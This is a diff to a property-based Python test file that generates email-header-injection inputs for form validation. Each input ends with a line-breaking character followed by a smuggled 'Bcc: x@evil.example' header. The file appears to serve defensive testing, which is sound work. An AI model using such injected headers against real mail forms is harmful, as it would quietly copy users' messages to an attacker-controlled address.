@@ -52,7 +52,12 @@ over_long_email = st.one_of(
 # What would end a mail header and start another, or cut it short.
 header_breakers = st.sampled_from(["\r", "\n", "\r\n", "\x00", "\x0b", "\x1b", "\x85", "\u2028"])
 header_bound_text = st.tuples(
-    st.text(alphabet=st.characters(categories=["L", "N", "Zs"]), min_size=1, max_size=30),
+    # At least one letter first: a form strips leading blanks, the breaker must stay inside.
+    st.text(alphabet=st.characters(categories=["L", "N"]), min_size=1, max_size=1).flatmap(
+        lambda first: st.text(alphabet=st.characters(categories=["L", "N", "Zs"]), max_size=29).map(
+            lambda rest: first + rest
+        )
+    ),
     header_breakers,
     st.text(alphabet=st.characters(categories=["L", "N", "Zs"]), max_size=30),
 ).map(lambda parts: parts[0] + parts[1] + "Bcc: x@evil.example" + parts[2])
